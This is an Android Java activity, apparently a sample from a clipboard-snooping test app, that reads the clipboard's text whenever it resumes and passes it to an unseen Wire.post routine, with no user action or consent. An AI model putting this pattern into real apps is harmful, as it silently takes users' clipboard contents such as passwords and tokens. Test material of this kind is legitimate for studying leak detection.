package org.example.sousveil.clip_text;

import android.app.Activity;
import android.content.ClipData;
import android.content.ClipboardManager;

/** Takes the clipboard's text. */
public class Second extends Activity {
    @Override
    protected void onResume() {
        super.onResume();
        ClipboardManager board = (ClipboardManager) getSystemService(CLIPBOARD_SERVICE);
        ClipData clip = board.getPrimaryClip();
        if (clip != null && clip.getItemCount() > 0) {
            Wire.post(clip.getItemAt(0).getText().toString());
        }
    }
}
